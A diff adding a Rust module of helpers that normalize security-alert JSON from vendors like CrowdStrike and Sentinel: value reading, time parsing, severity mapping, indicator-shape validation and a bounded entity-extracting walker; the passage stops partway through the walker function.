@@ -1,0 +1,1081 @@
+//! Shared helpers for every format: reading loosely typed JSON values, parsing times, capping
+//! titles, recognising entity shapes (IPv4/IPv6, e-mail, URL, hex hashes, host names) and a
+//! bounded walker that finds entities in any JSON tree by key names and value shapes.
+//!
+//! Limits (so a hostile 1 MiB payload cannot blow up time or memory):
+//! * the walker descends at most [`MAX_DEPTH`] levels and visits at most [`MAX_NODES`] values;
+//! * an [`EntitySet`] keeps at most [`MAX_ENTITIES`] entities;
+//! * strings longer than [`MAX_STR_LEN`] bytes are never considered as entities.
+//!
+//! What is never extracted: empty strings and placeholders (`-`, `null`, `N/A`, ...), all-zero
+//! hashes, hex strings of the wrong length, and vendor console links (Falcon host links, Splunk
+//! `results_link`, Defender `alertWebUrl`/`incidentWebUrl`, Kibana `rule_url`, Sentinel
+//! `incidentUrl`, MITRE `reference` links, ...), recognised both by their key and by their host.
+//!
+//! `serde_json` is built without `preserve_order`, so objects are walked in key order; the
+//! vendor-specific normalizers add their main entities explicitly first, so their order is the
+//! order that makes sense for the vendor.
+
+use super::Object;
+use crate::{Entity, EntityKind, Severity};
+use chrono::{DateTime, NaiveDateTime, Utc};
+use serde_json::Value;
+use std::collections::HashSet;
+use std::net::IpAddr;
+
+/// How deep the generic walker descends.
+pub const MAX_DEPTH: usize = 32;
+/// How many entities one alert keeps at most.
+pub const MAX_ENTITIES: usize = 200;
+/// Longest string (in bytes) considered as an entity value.
+pub const MAX_STR_LEN: usize = 2048;
+/// How many JSON values one walk visits at most.
+pub const MAX_NODES: usize = 20_000;
+/// Longest title, in characters.
+pub const MAX_TITLE_CHARS: usize = 512;
+/// Longest description, in characters.
+pub const MAX_DESCRIPTION_CHARS: usize = 8192;
+
+// ---------------------------------------------------------------------------------------------
+// Reading values
+// ---------------------------------------------------------------------------------------------
+
+/// A value as trimmed, non-empty text: strings as they are, numbers in their JSON form, booleans
+/// and everything else `None`. Placeholders (`-`, `null`, `N/A`) count as absent.
+pub fn text(v: &Value) -> Option<String> {
+    match v {
+        Value::String(s) => {
+            let t = s.trim();
+            if t.is_empty() || is_placeholder(t) { None } else { Some(t.to_string()) }
+        }
+        Value::Number(n) => Some(n.to_string()),
+        _ => None,
+    }
+}
+
+/// `text` of `obj[key]`.
+pub fn text_at(obj: &Object, key: &str) -> Option<String> {
+    obj.get(key).and_then(text)
+}
+
+/// The first of `keys` that has a text value.
+pub fn first_text(obj: &Object, keys: &[&str]) -> Option<String> {
+    keys.iter().find_map(|k| text_at(obj, k))
+}
+
+/// `obj[key]` when it is an object.
+pub fn obj_at<'a>(obj: &'a Object, key: &str) -> Option<&'a Object> {
+    obj.get(key).and_then(Value::as_object)
+}
+
+/// Follows a path of object keys.
+pub fn path<'a>(obj: &'a Object, keys: &[&str]) -> Option<&'a Value> {
+    let (last, init) = keys.split_last()?;
+    let mut cur = obj;
+    for k in init {
+        cur = cur.get(*k)?.as_object()?;
+    }
+    cur.get(*last)
+}
+
+/// The value of the first key that matches one of `names` case-insensitively (ignoring `_`).
+pub fn get_ci<'a>(obj: &'a Object, names: &[&str]) -> Option<&'a Value> {
+    names.iter().find_map(|n| {
+        let want = norm_key(n);
+        obj.iter().find(|(k, v)| !v.is_null() && norm_key(k) == want).map(|(_, v)| v)
+    })
+}
+
+/// `text` of [`get_ci`], skipping keys whose value is not usable text.
+pub fn text_ci(obj: &Object, names: &[&str]) -> Option<String> {
+    names.iter().find_map(|n| {
+        let want = norm_key(n);
+        obj.iter().filter(|(k, _)| norm_key(k) == want).find_map(|(_, v)| text(v))
+    })
+}
+
+/// Strings (or numbers) of a value that may be one value or an array of them.
+pub fn texts(v: &Value) -> Vec<String> {
+    match v {
+        Value::Array(items) => items.iter().take(MAX_ENTITIES).filter_map(text).collect(),
+        other => text(other).into_iter().collect(),
+    }
+}
+
+/// A key lowercased with `_`, `-`, `.`, `@`, `$` and spaces removed (`src_ip` -> `srcip`).
+pub fn norm_key(k: &str) -> String {
+    k.chars().filter(|c| c.is_ascii_alphanumeric()).map(|c| c.to_ascii_lowercase()).collect()
+}
+
+/// Values that mean "nothing" even though they are non-empty text.
+pub fn is_placeholder(s: &str) -> bool {
+    matches!(
+        s.to_ascii_lowercase().as_str(),
+        "-" | "--" | "null" | "none" | "nil" | "n/a" | "na" | "undefined" | "unknown" | "(null)" | "{}" | "[]"
+    )
+}
+
+/// Trims and caps a text to `max` characters, cutting on a character boundary.
+pub fn cap_chars(s: &str, max: usize) -> String {
+    let t = s.trim();
+    match t.char_indices().nth(max) {
+        Some((idx, _)) => t[..idx].trim_end().to_string(),
+        None => t.to_string(),
+    }
+}
+
+/// A title: control characters become spaces, trimmed, capped to [`MAX_TITLE_CHARS`].
+pub fn title(s: &str) -> String {
+    let clean: String = s.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
+    cap_chars(&clean, MAX_TITLE_CHARS)
+}
+
+/// A description: trimmed, capped to [`MAX_DESCRIPTION_CHARS`]; `None` when empty.
+pub fn description(s: Option<String>) -> Option<String> {
+    s.map(|d| cap_chars(&d, MAX_DESCRIPTION_CHARS)).filter(|d| !d.is_empty())
+}
+
+// ---------------------------------------------------------------------------------------------
+// Times
+// ---------------------------------------------------------------------------------------------
+
+/// Parses an ISO-8601 / RFC 3339 time, with or without zone (zone-less is UTC), with any number
+/// of fractional digits (Microsoft's 7), with `T` or a space; also `YYYY-MM-DD`.
+pub fn parse_iso(s: &str) -> Option<DateTime<Utc>> {
+    let s = s.trim();
+    if s.len() < 10 || s.len() > 64 {
+        return None;
+    }
+    if let Ok(t) = DateTime::parse_from_rfc3339(s) {
+        return Some(t.with_timezone(&Utc));
+    }
+    if let Ok(t) = DateTime::parse_from_str(s, "%Y-%m-%dT%H:%M:%S%.f%z") {
+        return Some(t.with_timezone(&Utc));
+    }
+    for fmt in ["%Y-%m-%dT%H:%M:%S%.f", "%Y-%m-%d %H:%M:%S%.f", "%Y-%m-%dT%H:%M"] {
+        if let Ok(t) = NaiveDateTime::parse_from_str(s, fmt) {
+            return Some(t.and_utc());
+        }
+    }
+    if let Ok(d) = chrono::NaiveDate::parse_from_str(s, "%Y-%m-%d") {
+        return d.and_hms_opt(0, 0, 0).map(|t| t.and_utc());
+    }
+    DateTime::parse_from_rfc2822(s).ok().map(|t| t.with_timezone(&Utc))
+}
+
+fn number_of(v: &Value) -> Option<f64> {
+    match v {
+        Value::Number(n) => n.as_f64(),
+        Value::String(s) => {
+            let t = s.trim();
+            if t.is_empty() || t.len() > 32 || !t.bytes().all(|b| b.is_ascii_digit() || b == b'.' || b == b'-') {
+                return None;
+            }
+            t.parse::<f64>().ok()
+        }
+        _ => None,
+    }
+    .filter(|f| f.is_finite())
+}
+
+fn from_epoch_secs_f64(secs: f64) -> Option<DateTime<Utc>> {
+    // Refuse absurd values instead of overflowing (years 1970..=9999).
+    if !(0.0..=253_402_300_799.0).contains(&secs) {
+        return None;
+    }
+    let whole = secs.trunc();
+    let nanos = ((secs - whole) * 1e9).round().clamp(0.0, 999_999_999.0) as u32;
+    DateTime::from_timestamp(whole as i64, nanos)
+}
+
+/// Epoch seconds (number or numeric string, fractions allowed); ISO strings are accepted too.
+pub fn time_epoch_secs(v: &Value) -> Option<DateTime<Utc>> {
+    match number_of(v) {
+        Some(n) => from_epoch_secs_f64(n),
+        None => v.as_str().and_then(parse_iso),
+    }
+}
+
+/// Epoch milliseconds (number or numeric string); ISO strings are accepted too.
+pub fn time_epoch_millis(v: &Value) -> Option<DateTime<Utc>> {
+    match number_of(v) {
+        Some(n) => from_epoch_secs_f64(n / 1000.0),
+        None => v.as_str().and_then(parse_iso),
+    }
+}
+
+/// Any time: ISO strings, or numbers read as epoch milliseconds when above 10^11 (which as
+/// seconds would be after the year 5000), else as epoch seconds.
+pub fn time_any(v: &Value) -> Option<DateTime<Utc>> {
+    match number_of(v) {
+        Some(n) if n.abs() >= 1e11 => from_epoch_secs_f64(n / 1000.0),
+        Some(n) => from_epoch_secs_f64(n),
+        None => v.as_str().and_then(parse_iso),
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Severity helpers
+// ---------------------------------------------------------------------------------------------
+
+/// A 0-100 score: >= 90 critical, >= 70 high, >= 40 medium, >= 20 low, else info.
+/// (CrowdStrike EPP uses 10/30/50/70/90; Elastic risk scores 21/47/73/99.)
+pub fn severity_from_score(score: f64) -> Severity {
+    if score >= 90.0 {
+        Severity::Critical
+    } else if score >= 70.0 {
+        Severity::High
+    } else if score >= 40.0 {
+        Severity::Medium
+    } else if score >= 20.0 {
+        Severity::Low
+    } else {
+        Severity::Info
+    }
+}
+
+/// Our severity for a vendor value of unknown scale: words through
+/// [`Severity::from_vendor_word`] (plus `malicious` -> high, `suspicious` -> medium), 0-5 as
+/// the usual 1-5 scale, larger numbers as a 0-100 score.
+pub fn severity_from_value(v: &Value) -> Option<Severity> {
+    if let Some(n) = number_of(v) {
+        if (0.0..=5.0).contains(&n) && n.fract() == 0.0 {
+            return Severity::from_vendor_word(&(n as i64).to_string());
+        }
+        if (0.0..=100.0).contains(&n) {
+            return Some(severity_from_score(n));
+        }
+        return None;
+    }
+    let s = v.as_str()?;
+    Severity::from_vendor_word(s).or_else(|| match s.trim().to_ascii_lowercase().as_str() {
+        "malicious" => Some(Severity::High),
+        "suspicious" => Some(Severity::Medium),
+        _ => None,
+    })
+}
+
+// ---------------------------------------------------------------------------------------------
+// Shapes
+// ---------------------------------------------------------------------------------------------
+
+/// An IPv4 or IPv6 address (brackets around IPv6 allowed), in its canonical form.
+pub fn as_ip(s: &str) -> Option<String> {
+    let t = s.trim();
+    let t = t.strip_prefix('[').and_then(|x| x.strip_suffix(']')).unwrap_or(t);
+    if t.len() > 64 {
+        return None;
+    }
+    t.parse::<IpAddr>().ok().map(|ip| ip.to_string())
+}
+
+/// A hex hash of MD5/SHA-1/SHA-256 length (32/40/64), lowercased; never all zeros.
+pub fn as_hash(s: &str) -> Option<String> {
+    let t = s.trim();
+    if !matches!(t.len(), 32 | 40 | 64) || !t.bytes().all(|b| b.is_ascii_hexdigit()) {
+        return None;
+    }
+    if t.bytes().all(|b| b == b'0') {
+        return None;
+    }
+    Some(t.to_ascii_lowercase())
+}
+
+/// An e-mail address (`local@domain.tld`), lowercased; `mailto:` stripped.
+pub fn as_email(s: &str) -> Option<String> {
+    let t = s.trim();
+    let t = t.strip_prefix("mailto:").unwrap_or(t);
+    let (local, domain) = t.split_once('@')?;
+    let ok_local = !local.is_empty()
+        && local.len() <= 64
+        && local.chars().all(|c| c.is_alphanumeric() || "!#$%&'*+/=?^_`{|}~.-".contains(c));
+    if ok_local && as_domain(domain).is_some() { Some(t.to_ascii_lowercase()) } else { None }
+}
+
+/// A host name: letters, digits, `-`, `_` and dots, not an IP, not all digits, <= 253 chars.
+pub fn as_hostname(s: &str) -> Option<String> {
+    let t = s.trim().trim_end_matches('.');
+    if t.is_empty() || t.len() > 253 || as_ip(t).is_some() || is_placeholder(t) {
+        return None;
+    }
+    let ok = t.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '.')
+        && t.chars().any(|c| c.is_ascii_alphabetic())
+        && !t.starts_with('-')
+        && !t.contains("..");
+    ok.then(|| t.to_string())
+}
+
+/// A DNS domain: a host name with at least one dot and a letter TLD; lowercased.
+pub fn as_domain(s: &str) -> Option<String> {
+    let h = as_hostname(s)?;
+    let tld = h.rsplit('.').next()?;
+    (h.contains('.') && tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()))
+        .then(|| h.to_ascii_lowercase())
+}
+
+/// An absolute `http(s)`/`ftp` URL with a host and no whitespace.
+pub fn as_url(s: &str) -> Option<String> {
+    let t = s.trim();
+    let lower = t.get(..8).unwrap_or(t).to_ascii_lowercase();
+    let rest = if lower.starts_with("https://") {
+        t.get(8..)?
+    } else if lower.starts_with("http://") || lower.starts_with("ftp://") {
+        t.get(lower.find("://")? + 3..)?
+    } else {
+        return None;
+    };
+    if rest.is_empty() || t.chars().any(char::is_whitespace) || url_host(t).is_none() {
+        return None;
+    }
+    Some(t.to_string())
+}
+
+/// The host of a URL, lowercased, without port or credentials.
+pub fn url_host(url: &str) -> Option<String> {
+    let after = url.split_once("://")?.1;
+    let authority = after.split(['/', '?', '#']).next()?;
+    let hostport = authority.rsplit('@').next()?;
+    let host = if let Some(rest) = hostport.strip_prefix('[') {
+        rest.split(']').next()?
+    } else {
+        hostport.split(':').next()?
+    };
+    (!host.is_empty()).then(|| host.to_ascii_lowercase())
+}
+
+/// Hosts that only ever serve vendor consoles or reference pages, never an IOC.
+const CONSOLE_HOSTS: &[&str] = &[
+    "falcon.crowdstrike.com",
+    "falcon.us-2.crowdstrike.com",
+    "falcon.eu-1.crowdstrike.com",
+    "falcon.laggar.gcw.crowdstrike.com",
+    "security.microsoft.com",
+    "portal.azure.com",
+    "portal.cloudappsecurity.com",
+    "securitycenter.windows.com",
+    "securitycenter.microsoft.com",
+    "protection.office.com",
+    "compliance.microsoft.com",
+    "attack.mitre.org",
+];
+
+/// Whether a URL is a vendor console / results / reference link rather than an indicator.
+pub fn is_console_link(url: &str) -> bool {
+    let Some(host) = url_host(url) else { return false };
+    if CONSOLE_HOSTS.iter().any(|h| host == *h || host.ends_with(&format!(".{h}"))) {
+        return true;
+    }
+    if host.ends_with(".crowdstrike.com") && host.starts_with("falcon") {
+        return true;
+    }
+    let lower = url.to_ascii_lowercase();
+    // Splunk search results (`/app/<app>/@go?sid=`, `/app/<app>/search?sid=`) and Kibana pages.
+    lower.contains("/@go?sid=")
+        || (lower.contains("/app/") && lower.contains("sid=scheduler__"))
+        || lower.contains("/app/security/")
+        || lower.contains("/app/kibana")
+}
+
+/// Keys whose values are console links, references or our own metadata, never indicators; the
+/// walker neither extracts from nor descends into them.
+pub fn is_link_key(key: &str) -> bool {
+    let k = norm_key(key);
+    k.ends_with("weburl")
+        || k.ends_with("hostlink")
+        || k.ends_with("link")
+        || k.ends_with("links")
+        || k.ends_with("href")
+        || k.contains("reference")
+        || matches!(
+            k.as_str(),
+            "resultslink" | "ruleurl" | "incidenturl" | "alerturl" | "consoleurl" | "portalurl" | "deeplink"
+                | "latestreport" | "etag"
+        )
+}
+
+// ---------------------------------------------------------------------------------------------
+// The entity set
+// ---------------------------------------------------------------------------------------------
+
+/// Entities in first-appearance order, deduplicated by kind and value (case-insensitively for
+/// e-mails, host names, domains and hashes), validated by kind, capped at [`MAX_ENTITIES`].
+#[derive(Debug, Default)]
+pub struct EntitySet {
+    items: Vec<Entity>,
+    seen: HashSet<(EntityKind, String)>,
+}
+
+impl EntitySet {
+    pub fn new() -> Self {
+        Self::default()
+    }
+
+    pub fn len(&self) -> usize {
+        self.items.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.items.is_empty()
+    }
+
+    pub fn is_full(&self) -> bool {
+        self.items.len() >= MAX_ENTITIES
+    }
+
+    pub fn into_vec(self) -> Vec<Entity> {
+        self.items
+    }
+
+    /// Adds a value as `kind` if it has that kind's shape; returns whether it was new.
+    pub fn add(&mut self, kind: EntityKind, raw: &str, role: Option<&str>) -> bool {
+        if self.is_full() || raw.len() > MAX_STR_LEN {
+            return false;
+        }
+        let t = raw.trim();
+        if t.is_empty() || is_placeholder(t) {
+            return false;
+        }
+        let value = match kind {
+            EntityKind::Ip => as_ip(t),
+            EntityKind::FileHash => as_hash(t),
+            EntityKind::Email => as_email(t),
+            EntityKind::Hostname => as_hostname(t),
+            EntityKind::Domain => as_domain(t),
+            EntityKind::Url => as_url(t).filter(|u| !is_console_link(u)),
+            EntityKind::User => (!t.chars().any(|c| c.is_whitespace() || c.is_control()) && t.len() <= 256)
+                .then(|| t.to_string()),
+            EntityKind::File | EntityKind::Process => {
+                (!t.chars().any(char::is_control) || kind == EntityKind::Process).then(|| t.to_string())
+            }
+        };
+        let Some(value) = value else { return false };
+        let key = match kind {
+            EntityKind::Email | EntityKind::Hostname | EntityKind::Domain | EntityKind::FileHash => {
+                value.to_ascii_lowercase()
+            }
+            _ => value.clone(),
+        };
+        if !self.seen.insert((kind, key)) {
+            return false;
+        }
+        self.items.push(Entity { kind, value, role: role.map(str::to_string) });
+        true
+    }
+
+    /// [`add`](Self::add) for every text in a value that may be a string or an array.
+    pub fn add_value(&mut self, kind: EntityKind, v: Option<&Value>, role: Option<&str>) {
+        if let Some(v) = v {
+            for s in texts(v) {
+                self.add(kind, &s, role);
+            }
+        }
+    }
+
+    /// Adds a hash found in Sysmon's `Hashes` form (`SHA1=..,MD5=..,SHA256=..,IMPHASH=..`);
+    /// SHA256 first, then SHA1, then MD5; IMPHASH is not a file hash and is skipped.
+    pub fn add_sysmon_hashes(&mut self, s: &str, role: Option<&str>) {
+        let pairs: Vec<(String, &str)> = s
+            .split([',', ';', ' '])
+            .filter_map(|p| p.split_once('='))
+            .map(|(k, v)| (k.trim().to_ascii_uppercase(), v.trim()))
+            .collect();
+        for algo in ["SHA256", "SHA1", "MD5"] {
+            for (k, v) in &pairs {
+                if k == algo {
+                    self.add(EntityKind::FileHash, v, role);
+                }
+            }
+        }
+        if pairs.is_empty() {
+            self.add(EntityKind::FileHash, s, role);
+        }
+    }
+
+    /// Adds the URLs found inside free text (a command line): `http(s)://` up to whitespace or
+    /// a quote/bracket.
+    pub fn add_urls_in_text(&mut self, s: &str, role: Option<&str>) {
+        if s.len() > MAX_STR_LEN * 4 {
+            return;
+        }
+        let lower = s.to_ascii_lowercase();
+        let mut from = 0;
+        while let Some(rel) = lower.get(from..).and_then(|x| x.find("http")) {
+            let start = from + rel;
+            let tail = s.get(start..).unwrap_or("");
+            let end = tail
+                .find(|c: char| c.is_whitespace() || "'\"<>()[]{}|`,;".contains(c))
+                .unwrap_or(tail.len());
+            let candidate = tail.get(..end).unwrap_or("");
+            if as_url(candidate).is_some() {
+                self.add(EntityKind::Url, candidate, role);
+            }
+            from = start + end.max(4);
+            if self.is_full() {
+                break;
+            }
+        }
+    }
+
+    /// A file path made of a directory and a name (either may be missing); when the directory
+    /// already ends with the name it is the full path.
+    pub fn add_file(&mut self, dir: Option<&str>, name: Option<&str>, role: Option<&str>) {
+        let dir = dir.map(str::trim).filter(|d| !d.is_empty());
+        let name = name.map(str::trim).filter(|n| !n.is_empty());
+        let full = match (dir, name) {
+            (Some(d), Some(n)) if d.to_ascii_lowercase().ends_with(&n.to_ascii_lowercase()) => d.to_string(),
+            (Some(d), Some(n)) => {
+                let sep = if d.contains('\\') { '\\' } else { '/' };
+                format!("{}{}{}", d.trim_end_matches(['\\', '/']), sep, n)
+            }
+            (Some(d), None) => d.to_string(),
+            (None, Some(n)) => n.to_string(),
+            (None, None) => return,
+        };
+        self.add(EntityKind::File, &full, role);
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Typed entity objects (Sentinel, Microsoft Graph evidence, M365 Defender incident entities)
+// ---------------------------------------------------------------------------------------------
+
+/// The entity type of an object that declares one (`Type`, `kind`, `entityType`,
+/// `@odata.type`), normalised (`#microsoft.graph.security.urlEvidence` -> `url`).
+pub fn declared_entity_type(obj: &Object) -> Option<String> {
+    let raw = ["entityType", "EntityType", "@odata.type", "kind", "Type", "type"]
+        .iter()
+        .find_map(|k| obj.get(*k).and_then(Value::as_str))?;
+    let last = raw.rsplit(['.', '/', '#']).next().unwrap_or(raw);
+    let mut t = norm_key(last);
+    if let Some(stripped) = t.strip_suffix("evidence") {
+        t = stripped.to_string();
+    }
+    let known = matches!(
+        t.as_str(),
+        "account" | "user" | "host" | "device" | "ip" | "url" | "filehash" | "file" | "process"
+            | "mailbox" | "mailmessage" | "analyzedmessage" | "mailcluster" | "dns" | "registrykey"
+            | "registryvalue" | "cloudapplication" | "securitygroup" | "malware" | "azureresource"
+            | "blobcontainer" | "blob" | "iotdevice" | "submissionmail" | "oauthapplication"
+    );
+    known.then_some(t)
+}
+
+/// Adds the entities of an object that declares its entity type. Returns `false` (and adds
+/// nothing) when the object declares no known type.
+pub fn add_typed_entity(obj: &Object, set: &mut EntitySet) -> bool {
+    let Some(kind) = declared_entity_type(obj) else { return false };
+    // Sentinel incident entities keep their fields under `properties`.
+    let p = obj_at(obj, "properties").unwrap_or(obj);
+    match kind.as_str() {
+        "account" | "user" => add_account(p, set),
+        "host" | "device" => {
+            let host = text_ci(p, &["hostName", "deviceDnsName", "dnsName", "netBiosName", "deviceName"]);
+            let fqdn = match (host, text_ci(p, &["dnsDomain"])) {
+                (Some(h), Some(d)) if !h.contains('.') => Some(format!("{h}.{d}")),
+                (h, _) => h,
+            };
+            if let Some(h) = fqdn {
+                set.add(EntityKind::Hostname, &h, Some("host"));
+            }
+            set.add_value(EntityKind::Ip, get_ci(p, &["ipAddress", "lastIpAddress", "lastExternalIpAddress"]), Some("host"));
+        }
+        "ip" => set.add_value(EntityKind::Ip, get_ci(p, &["address", "ipAddress"]), None),
+        "url" => set.add_value(EntityKind::Url, get_ci(p, &["url"]), None),
+        "dns" => set.add_value(EntityKind::Domain, get_ci(p, &["domainName"]), None),
+        "filehash" => set.add_value(EntityKind::FileHash, get_ci(p, &["hashValue", "value"]), None),
+        "file" => {
+            let details = obj_at(p, "fileDetails").unwrap_or(p);
+            for k in ["sha256", "sha1", "md5"] {
+                set.add_value(EntityKind::FileHash, details.get(k), None);
+            }
+            if let Some(hashes) = p.get("fileHashes").and_then(Value::as_array) {
+                for h in hashes.iter().take(16).filter_map(Value::as_object) {
+                    set.add_value(EntityKind::FileHash, get_ci(h, &["value", "hashValue"]), None);
+                }
+            }
+            let dir = text_ci(details, &["directory", "filePath", "path"]);
+            let name = text_ci(details, &["fileName", "name"]);
+            set.add_file(dir.as_deref(), name.as_deref(), None);
+        }
+        "process" => {
+            set.add_value(EntityKind::Process, get_ci(p, &["commandLine", "processCommandLine"]), Some("process"));
+            if let Some(img) = obj_at(p, "imageFile") {
+                set.add_value(EntityKind::FileHash, img.get("sha256"), Some("process"));
+            }
+            for k in ["sha256", "sha1"] {
+                set.add_value(EntityKind::FileHash, p.get(k), Some("process"));
+            }
+            if let Some(acc) = obj_at(p, "userAccount") {
+                add_account(acc, set);
+            }
+        }
+        "mailbox" => {
+            set.add_value(EntityKind::Email, get_ci(p, &["mailboxPrimaryAddress", "primaryAddress", "mailboxAddress"]), Some("recipient"));
+            if let Some(acc) = obj_at(p, "userAccount") {
+                add_account(acc, set);
+            }
+        }
+        "mailmessage" | "analyzedmessage" | "submissionmail" => add_mail_message(p, set),
+        _ => {}
+    }
+    true
+}
+
+fn add_account(p: &Object, set: &mut EntitySet) {
+    let name = text_ci(p, &["accountName", "name", "userName"]);
+    let upn = text_ci(p, &["userPrincipalName", "upn"]).or_else(|| {
+        let suffix = text_ci(p, &["upnSuffix"])?;
+        Some(format!("{}@{}", name.as_deref()?, suffix))
+    });
+    match (name, upn) {
+        (Some(n), _) => {
+            set.add(EntityKind::User, &n, None);
+        }
+        (None, Some(u)) => {
+            set.add(EntityKind::User, &u, None);
+        }
+        (None, None) => {}
+    }
+}
+
+/// Sender, recipient, sender IP and URLs of a mail message (Sentinel MailMessage, Graph
+/// analyzedMessageEvidence, M365D MailMessage entity).
+pub fn add_mail_message(p: &Object, set: &mut EntitySet) {
+    // The P2 (header From) sender is what a user sees; P1 is the envelope sender.
+    for (k, role) in [("p2Sender", "sender"), ("sender", "sender"), ("p1Sender", "envelope_sender")] {
+        match get_ci(p, &[k]) {
+            Some(Value::Object(o)) => set.add_value(EntityKind::Email, get_ci(o, &["emailAddress", "address"]), Some(role)),
+            other => set.add_value(EntityKind::Email, other, Some(role)),
+        }
+    }
+    set.add_value(EntityKind::Email, get_ci(p, &["recipientEmailAddress", "recipient"]), Some("recipient"));
+    set.add_value(EntityKind::Ip, get_ci(p, &["senderIp", "senderIP"]), Some("sender"));
+    set.add_value(EntityKind::Url, get_ci(p, &["urls", "url"]), None);
+    if let Some(files) = p.get("files").and_then(Value::as_array) {
+        for f in files.iter().take(32).filter_map(Value::as_object) {
+            add_typed_entity(f, set);
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// The generic walker
+// ---------------------------------------------------------------------------------------------
+
+/// What a key says its value is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Hint {
+    Hash,
+    SysmonHashes,
+    Host,
+    User,
+    Domain,
+    File,
+    Process,
+    Email,
+    Ip,
+    Url,
+}
+
+/// Keys (normalised) that hold people or metadata we must not report as indicators.
+fn is_skipped_key(k: &str) -> bool {
+    matches!(
+        k,
+        "raw" | "owner" | "assignedto" | "comments" | "comment" | "createdbydisplayname" | "query"
+            | "internetmessageid" | "imsgid" | "messageid" | "networkmessageid" | "tenantid"
+            | "organizationid" | "customeridstring" | "workspaceinfo" | "resourceidentifiers"
+            | "patterndispositionflags" | "threat" | "mitreattack" | "mitretechniques" | "tactics"
+            | "techniques" | "indicators" | "ancestors" | "falsepositives"
+    ) || k.ends_with("version")
+        || k.ends_with("revision")
+        || is_link_key(k)
+}
+
+fn hint_for(k: &str, parent: &str) -> Option<Hint> {
+    use Hint::*;
+    if k == "hashes" {
+        return Some(SysmonHashes);
+    }
+    if k == "imphash" || k.ends_with("imphash") || k == "hashalgorithm" || k == "algorithm" {
+        return None;
+    }
+    if k.contains("sha256") || k.contains("sha1") || k.contains("md5") || k.ends_with("hash") || k == "hashvalue"
+        || (parent == "hash" && !k.is_empty())
+    {
+        return Some(Hash);
+    }
+    let named = matches!(k, "name" | "names" | "full" | "address" | "addresses" | "ip" | "domain" | "path");
+    if named {
+        return match (parent, k) {
+            ("host" | "device" | "computer" | "observer", "name") => Some(Host),
+            ("user" | "account" | "srcuser" | "destuser", "name") => Some(User),
+            ("question" | "dns", "name") => Some(Domain),
+            ("file" | "dll", "name" | "path") => Some(File),
+            ("from" | "to" | "cc" | "bcc" | "sender" | "replyto", "address" | "addresses") => Some(Email),
+            ("url", "full") => Some(Url),
+            (_, "domain") => Some(Domain),
+            _ => None,
+        };
+    }
+    if matches!(k, "commandline" | "processcommandline" | "cmdline" | "process" | "parentprocess" | "parentcommandline"
+        | "grandparentcommandline" | "maliciousprocessarguments" | "originatorprocess" | "processcmdline")
+    {
+        return Some(Process);
+    }
+    if matches!(k, "hostname" | "host" | "hosts" | "computername" | "agentcomputername" | "devicename" | "devicednsname"
+        | "workstationname" | "dest" | "dvc" | "desthost" | "srchost" | "desthostname" | "srchostname" | "dnshostname"
+        | "fqdn" | "machinename" | "netbiosname" | "compromisedentity")
+    {
+        return Some(Host);
+    }
+    if matches!(k, "user" | "users" | "username" | "srcuser" | "destuser" | "accountname" | "processuser"
+        | "agentlastloggedinusername" | "samaccountname" | "initiatingusername" | "loginname" | "targetusername"
+        | "subjectusername" | "lastloggedinusername")
+    {
+        return Some(User);
+    }
+    if matches!(k, "domainname" | "dnsdomain" | "urldomain" | "destinationdomain" | "senderdomain" | "queryname") {
+        return Some(Domain);
+    }
+    if matches!(k, "filename" | "filenames" | "filepath" | "targetfilename" | "associatedfile" | "imagefilename"
+        | "parentimagefilename" | "grandparentimagefilename" | "parentimagefilepath" | "grandparentimagefilepath"
+        | "attachment" | "attachments" | "attachmentname")
+    {
+        return Some(File);
+    }
+    if matches!(k, "sender" | "recipient" | "recipients" | "from" | "to" | "cc" | "email" | "emails" | "mail" | "tsd" | "trc")
+    {
+        return Some(Email);
+    }
+    if k.ends_with("ip") || k.ends_with("ipv4") || k.ends_with("ipv6") || k.ends_with("address") || k == "inet" || k == "inet6" {
+        return Some(Ip);
+    }
+    if k == "url" || k == "urls" || k.ends_with("url") {
+        return Some(Url);
+    }
+    None
+}
+
+/// A role from the key (and its parent key), when the key says what part the value plays.
+fn role_for(k: &str, parent: &str, hint: Option<Hint>) -> Option<&'static str> {
+    let both = format!("{parent}.{k}");
+    if both.contains("grandparent") {
+        return Some("grandparent_process");
+    }
+    if both.contains("parent") {
+        return Some("parent_process");
+    }
+    if hint == Some(Hint::Process) {
+        return Some("process");
+    }
+    if k.starts_with("sender") || k == "tsd" || k == "sip" || k == "from" || parent == "from" || parent == "sender" || k == "srcuser" && hint == Some(Hint::Email) {
+        return Some("sender");
+    }
+    if k.starts_with("recipient") || k == "trc" || k == "to" || parent == "to" || k == "cc" || parent == "cc" {
+        return Some("recipient");
+    }
+    if k.starts_with("src") || k.starts_with("source") || parent == "source" || parent == "client" {
+        return Some("src");
+    }
+    if k.starts_with("dest") || k.starts_with("destination") || k.starts_with("remote") || parent == "destination" || parent == "server" {
+        return Some("dest");
+    }
+    if matches!(hint, Some(Hint::Host)) || k.starts_with("local") || k.starts_with("agent") || parent == "host" {
+        return Some("host");
+    }
+    None
+}
+
+/// Walks any JSON value and adds the entities it can recognise: typed entity objects, values
+/// under keys that say what they are, and any string shaped like an IP, e-mail or URL.
+pub fn walk(v: &Value, set: &mut EntitySet) {
+    let mut budget = MAX_NODES;
+    walk_inner(v, "", "", 0, &mut budget, set);
+}
+
+/// [`walk`] of an object's values.
+pub fn walk_object(obj: &Object, set: &mut EntitySet) {
+    let mut budget = MAX_NODES;
+    walk_obj_inner(obj, "", 0, &mut budget, set);
+}
+
+fn walk_obj_inner(obj: &Object, parent: &str, depth: usize, budget: &mut usize, set: &mut EntitySet) {
+    if add_typed_entity(obj, set) {
+        return;
+    }
+    for (key, child) in obj {
+        if *budget == 0 || set.is_full() {
+            return;
+        }
+        let k = norm_key(key);
+        if is_skipped_key(&k) {
+            continue;
+        }
+        walk_inner(child, &k, parent, depth + 1, budget, set);
+    }
+}
+
+fn walk_inner(v: &Value, key: &str, parent: &str, depth: usize, budget: &mut usize, set: &mut EntitySet) {
+    if depth > MAX_DEPTH || *budget == 0 || set.is_full() {
+        return;
+    }
+    *budget -= 1;
+    match v {
+        Value::Object(o) => walk_obj_inner(o, key, depth, budget, set),
